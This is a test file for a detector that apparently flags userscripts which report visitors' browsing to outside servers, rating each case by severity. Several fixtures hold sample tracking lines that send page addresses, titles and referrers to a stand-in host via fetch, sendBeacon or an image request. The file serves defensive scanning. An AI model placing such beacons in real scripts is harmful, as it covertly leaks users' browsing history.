import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { historyTracking } from "./history-tracking.ts";

describe("history-tracking", () => {
	test.each([
		[
			"the address of every page",
			["medium 5"],
			userscript(["match *://*/*"], `fetch("https://c.stranger.test/?u="+encodeURIComponent(location.href))`),
		],
		[
			"title and referrer of every page",
			["medium 5"],
			userscript(
				["match *://*/*"],
				`navigator.sendBeacon("https://c.stranger.test/",document.title+document.referrer)`,
			),
		],
		[
			"addresses of one site",
			["medium 5"],
			userscript(["match https://shop.example/*"], `new Image().src="https://c.stranger.test/?u="+location.pathname`),
		],
		[
			"one site, a declared server: told",
			["low 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`GM_xmlhttpRequest({url:"https://api.helper.example/?id="+new URLSearchParams(location.search).get("v")})`,
			),
		],
		[
			"every site, a program on the visitor's own computer that the script names: told",
			["low 7"],
			userscript(
				["match *://*/*", "grant GM_xmlhttpRequest", "connect 127.0.0.1"],
				`GM_xmlhttpRequest({url:"http://127.0.0.1:6800/jsonrpc",data:location.href})`,
			),
		],
		[
			"every site, a program on the visitor's own computer that it does not name",
			["medium 6"],
			userscript(
				["match *://*/*", "grant GM_xmlhttpRequest"],
				`GM_xmlhttpRequest({url:"http://127.0.0.1:6800/jsonrpc",data:location.href})`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(historyTracking, code)).toEqual(expected);
	});

	test.each([
		[
			"sharing a page",
			`window.open("https://share.stranger.test/?url="+encodeURIComponent(location.href)+"&t="+encodeURIComponent(document.title))`,
		],
		["the site itself", userscript(["match https://shop.example/*"], `fetch("/seen?u="+location.href)`)],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(historyTracking, code)).toEqual([]);
	});

	test.each([
		[
			"looks up with it, and uses the response",
			".then((r) => r.json()).then((found) => { document.title = found.votes; })",
			"low 5",
		],
		["only tells it", "", "medium 5"],
	])("on its own sites, an address for a server that %s", (_title, use, expected) => {
		const id = 'new URLSearchParams(location.search).get("v")';
		const code = `fetch("https://votes.stranger.test/?id=" + ${id})${use};`;
		expect(findIn(historyTracking, userscript(["match https://shop.example/*"], code))).toEqual([expected]);
	});
});
